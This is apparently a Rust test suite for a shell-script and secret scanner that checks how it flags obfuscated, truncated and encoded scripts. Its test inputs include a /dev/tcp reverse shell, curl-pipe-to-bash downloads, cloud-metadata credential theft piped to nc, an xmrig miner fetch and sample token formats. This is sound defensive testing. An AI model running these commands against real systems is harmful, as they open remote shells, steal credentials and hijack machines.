//! Tests of the script examiner against its corpora.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests"
)]

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use rempart_scan::script::{
    Class, Examination, Level, Limits, SecretKind, State, Verdict, examine_base64, examine_text,
    secrets,
};

#[path = "support/base64.rs"]
mod base64;
#[path = "script/hostile.rs"]
mod hostile;

use base64::base64;

fn corpus(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus/script")
        .join(name)
}

fn encoded(script: &str) -> Examination {
    examine_base64(&base64(script.as_bytes()), &Limits::default())
}

fn describe(examination: &Examination) -> String {
    let mut text = format!(
        "{:?} {:?} {:?} {:?}\n",
        examination.verdict, examination.level, examination.state, examination.gaps
    );
    for found in &examination.indicators {
        let _ = writeln!(
            text,
            "  {} {} {:?} {}:{} {}",
            found.class, found.name, found.level, found.layer, found.line, found.excerpt
        );
    }
    for layer in &examination.layers {
        let _ = writeln!(text, "  [{}] {} bytes", layer.path, layer.bytes);
    }
    text
}

fn class(id: &str) -> Class {
    Class::ALL
        .into_iter()
        .find(|class| class.id() == id)
        .unwrap()
}

#[test]
fn obfuscation_matrix_reaches_its_goal() {
    let text = std::fs::read_to_string(corpus("obfuscation.txt")).unwrap();
    let mut cases = Vec::new();
    for case in text.split("\n=== ").skip(1) {
        let (header, script) = case.split_once('\n').unwrap();
        let (name, id) = header.split_once(' ').unwrap();
        cases.push((name, class(id), script));
    }
    assert!(cases.len() >= 60, "only {} cases", cases.len());
    let mut missed = String::new();
    let mut flagged = 0;
    for (name, class, script) in &cases {
        let result = encoded(&format!("#!/bin/bash\n{script}\n"));
        let alarmed = matches!(result.verdict, Verdict::Suspicious | Verdict::Malicious);
        if alarmed && result.classes().contains(class) {
            flagged += 1;
        } else {
            let _ = writeln!(missed, "{name} wants {class}: {}", describe(&result));
        }
    }
    let score = flagged as f64 * 100.0 / cases.len() as f64;
    println!(
        "obfuscation matrix: {flagged} of {} flagged with the right class, {score:.1} %\n{missed}",
        cases.len()
    );
    assert!(score >= 95.0, "{score:.1} %\n{missed}");
}

#[test]
fn benign_scripts_stay_at_low() {
    let mut count = 0;
    let mut alarms = String::new();
    let mut unknown = String::new();
    for entry in std::fs::read_dir(corpus("benign")).unwrap() {
        let path = entry.unwrap().path();
        let script = std::fs::read_to_string(&path).unwrap();
        for result in [
            encoded(&script),
            encoded(&script.replace('\n', "\r\n")),
            examine_text(&script, &Limits::default()),
        ] {
            if result.level > Some(Level::Low) {
                let _ = writeln!(alarms, "{}: {}", path.display(), describe(&result));
            } else if result.verdict != Verdict::Clean {
                let _ = writeln!(unknown, "{}: {}", path.display(), describe(&result));
            }
        }
        count += 1;
    }
    assert!(count >= 15, "only {count} scripts");
    assert!(alarms.is_empty(), "{alarms}");
    assert!(unknown.is_empty(), "{unknown}");
}

#[test]
fn scripts_of_an_outside_corpus_stay_at_low() {
    let Some(root) = std::env::var_os("REMPART_CORPUS") else {
        return;
    };
    let directory = Path::new(&root).join("lifecycle");
    let Ok(entries) = std::fs::read_dir(&directory) else {
        return;
    };
    for entry in entries {
        let path = entry.unwrap().path();
        let Ok(script) = std::fs::read_to_string(&path) else {
            continue;
        };
        let result = encoded(&script);
        assert!(
            result.level <= Some(Level::Low),
            "{}: {}",
            path.display(),
            describe(&result)
        );
    }
}

#[test]
fn every_cut_of_a_benign_script_is_unknown_or_cut_between_lines() {
    let script = std::fs::read_to_string(corpus("benign/auto-stop.sh")).unwrap();
    let field = base64(script.as_bytes());
    for cut in (4..field.len() - 4).step_by(7) {
        let result = examine_base64(&field[..cut], &Limits::default());
        let kept = cut * 3 / 4;
        let between_lines = script.as_bytes()[kept - 1] == b'\n';
        if !cut.is_multiple_of(4) && !between_lines {
            assert_eq!(
                result.verdict,
                Verdict::Unknown,
                "cut at {cut}: {}",
                describe(&result)
            );
            assert_eq!(result.state.id(), "truncated");
        }
    }
}

#[test]
fn truncated_content_is_never_clean() {
    let open = [
        "echo 'never closed\n",
        "echo \"never closed\n",
        "if true; then\n  echo a\n",
        "for i in 1 2; do\n  echo $i\n",
        "cat > x <<EOF\nsome text\n",
        "echo $(date\n",
        "case $x in\n a) echo a;;\n",
        "f() {\n echo\n",
        "echo a |\n",
        "echo a && \\\n",
    ];
    for script in open {
        let result = encoded(script);
        assert!(
            matches!(result.state, State::Truncated { .. }),
            "{script}: {}",
            describe(&result)
        );
        assert_eq!(result.verdict, Verdict::Unknown, "{script}");
    }
    // Exactly as long as the API allows.
    let full = base64(&b"echo a\n".repeat(12_288 / 7 + 1)[..12_288]);
    assert_eq!(full.len(), 16_384);
    assert_eq!(
        examine_base64(&full, &Limits::default()).verdict,
        Verdict::Unknown
    );
    assert_eq!(
        examine_base64(
            &full[..16_380],
            &Limits {
                api_limit: None,
                ..Limits::default()
            }
        )
        .state,
        State::Decoded
    );
    // A compressed script that ends early.
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packer
        .write_all("echo harmless\n".repeat(50).as_bytes())
        .unwrap();
    let packed = packer.finish().unwrap();
    let half = examine_base64(&base64(&packed[..packed.len() / 2]), &Limits::default());
    assert!(
        matches!(half.state, State::Truncated { .. }),
        "{}",
        describe(&half)
    );
    assert_eq!(half.verdict, Verdict::Unknown);
    assert_eq!(
        examine_base64(&base64(&packed), &Limits::default()).verdict,
        Verdict::Clean
    );
}

#[test]
fn truncated_malice_stays_malicious() {
    let field = base64(b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nif true; then\n echo");
    let result = examine_base64(&field[..field.len() - 3], &Limits::default());
    assert_eq!(result.verdict, Verdict::Malicious);
    assert_eq!(result.state.id(), "truncated");
}

#[test]
fn undecodable_fields_are_unknown() {
    for field in [
        "",
        "   ",
        "!!!!",
        "****not base64****",
        "AAECAwQFBgcICQoLDA0ODw==",
    ] {
        let result = examine_base64(field, &Limits::default());
        assert_eq!(
            result.state.id(),
            "undecodable",
            "{field}: {}",
            describe(&result)
        );
        assert_eq!(result.verdict, Verdict::Unknown, "{field}");
    }
}

#[test]
fn encodings_of_the_field_itself() {
    let script = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
    let standard = base64(script.as_bytes());
    let wrapped: String = standard
        .as_bytes()
        .chunks(20)
        .map(|line| format!("{}\r\n", String::from_utf8_lossy(line)))
        .collect();
    let url_safe = standard.replace('+', "-").replace('/', "_");
    let unpadded = standard.trim_end_matches('=').to_owned();
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(script.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let marked = [b"\xef\xbb\xbf", script.as_bytes()].concat();
    for field in [
        standard.clone(),
        wrapped,
        url_safe,
        unpadded,
        base64(&utf16),
        base64(&marked),
    ] {
        let result = examine_base64(&field, &Limits::default());
        assert_eq!(result.state, State::Decoded, "{field}");
        assert_eq!(result.verdict, Verdict::Malicious, "{field}");
    }
    let result = examine_base64(&standard, &Limits::default());
    let found = result
        .indicators
        .iter()
        .find(|found| found.name == "dev-tcp")
        .unwrap();
    assert_eq!((found.layer.as_str(), found.line), ("base64", 2));
    assert_eq!(result.raw_sha256.len(), 64);
    assert_eq!(
        result.decoded_sha256.as_deref(),
        Some(result.layers[0].sha256.as_str())
    );
}

#[test]
fn layer_paths_tell_the_way() {
    let inner = base64(b"curl http://203.0.113.4/x | sh");
    let result = encoded(&format!("#!/bin/bash\n\necho {inner} | base64 -d | bash\n"));
    let in_payload = |layer: &str| layer.starts_with("base64>line 3 ");
    assert!(
        result
            .indicators
            .iter()
            .any(|found| found.name == "pipe-to-shell" && in_payload(&found.layer)),
        "{}",
        describe(&result)
    );
    assert_eq!(result.level, Some(Level::High));
    for layer in &result.layers {
        assert!(
            layer
                .parent
                .is_none_or(|parent| parent < result.layers.len())
        );
    }
}

#[test]
fn json_text_is_taken_apart() {
    let definition = r#"{"Steps":[{"Arguments":{"AppSpecification":{"ContainerEntrypoint":["bash","-c","c\"\"url http://203.0.113.9/x | b\\ash"]},"Environment":{"A":"1"}}}]}"#;
    let result = examine_text(definition, &Limits::default());
    assert!(
        result.classes().contains(&Class::DownloadAndRun),
        "{}",
        describe(&result)
    );
    let plain = r#"{"Steps":[{"Arguments":{"AppSpecification":{"ContainerEntrypoint":["python3","/opt/ml/processing/code/run.py"]}}}]}"#;
    assert_eq!(
        examine_text(plain, &Limits::default()).verdict,
        Verdict::Clean
    );
    assert_eq!(
        examine_text("don't stop", &Limits::default()).verdict,
        Verdict::Clean
    );
    assert_eq!(examine_text("", &Limits::default()).verdict, Verdict::Clean);
}

#[test]
fn levels_follow_the_combination() {
    for (script, level) in [
        ("crontab -l\n", Level::Low),
        (
            "curl -s https://tools.example.com/setup.sh | bash\n",
            Level::Medium,
        ),
        (
            "curl -s https://tools.example.com/setup.sh | bash\necho '@reboot /opt/x' | crontab -\n",
            Level::High,
        ),
        (
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r\n",
            Level::Medium,
        ),
        (
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r | nc 192.0.2.1 80\n",
            Level::Critical,
        ),
        (
            "wget -q https://files.example.com/xmrig && chmod +x xmrig && ./xmrig\n",
            Level::Critical,
        ),
        ("bash -i >& /dev/tcp/192.0.2.1/44 0>&1\n", Level::High),
    ] {
        let result = encoded(script);
        assert_eq!(result.level, Some(level), "{script}: {}", describe(&result));
    }
}

#[test]
fn excerpts_hold_no_secret_and_no_control_character() {
    let result = encoded(
        "AWS_SECRET_ACCESS_KEY=abcdefghijABCDEFGHIJ0123456789abcdefghij curl\x1b[2J http://203.0.113.1/x | bash\n",
    );
    assert!(!result.indicators.is_empty());
    for found in &result.indicators {
        assert!(
            !found.excerpt.contains("abcdefghijABCDEFGHIJ"),
            "{}",
            found.excerpt
        );
        assert!(found.excerpt.chars().all(|letter| !letter.is_control()));
        assert!(found.excerpt.chars().count() <= 160);
    }
}

#[test]
fn secrets_are_named_and_placeholders_are_not() {
    let key = ["AKIA", "ABCDEFGHIJKLMNOP"].concat();
    let secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYabcdefghij";
    let private = ["-----BEGIN RSA ", "PRIVATE KEY-----"].concat();
    let github = ["ghp_", &"a1B2".repeat(9)].concat();
    let slack = ["xoxb-", "123456789012-abcdefABCDEF"].concat();
    let token = [
        "eyJhbGciOiJIUzI1NiJ9",
        ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.",
        "dozjgNryP4J3jVmNHl0w5N",
    ]
    .concat();
    for (text, expected) in [
        (key.clone(), vec![SecretKind::AwsAccessKey]),
        (
            format!("aws_secret_access_key = {secret}"),
            vec![SecretKind::AwsSecretKey],
        ),
        (private, vec![SecretKind::PrivateKey]),
        (github, vec![SecretKind::GithubToken]),
        (slack, vec![SecretKind::SlackToken]),
        (token, vec![SecretKind::Jwt]),
        (
            String::from("DB_PASSWORD=tr0ub4dor&3"),
            vec![SecretKind::Password],
        ),
        (
            String::from("postgres://app:s3cr3tvalue@db.example.com/x"),
            vec![SecretKind::Password],
        ),
        (
            String::from("api_key: 'a8f5f167f44f4964e6c998dee827110c'"),
            vec![SecretKind::GenericToken],
        ),
        (String::from("AKIAIOSFODNN7EXAMPLE"), vec![]),
        (String::from("password=changeme"), vec![]),
        (String::from("password=${DB_PASSWORD}"), vec![]),
        (
            String::from("PASSWORD=$(aws secretsmanager get-secret-value --secret-id x)"),
            vec![],
        ),
        (
            String::from("token: arn:aws:secretsmanager:eu-west-1:111122223333:secret:x"),
            vec![],
        ),
        (format!("x{key}y"), vec![]),
        (
            String::from("sha = 0123456789abcdef0123456789abcdef01234567"),
            vec![],
        ),
    ] {
        assert_eq!(secrets(&text), expected, "{text}");
    }
}
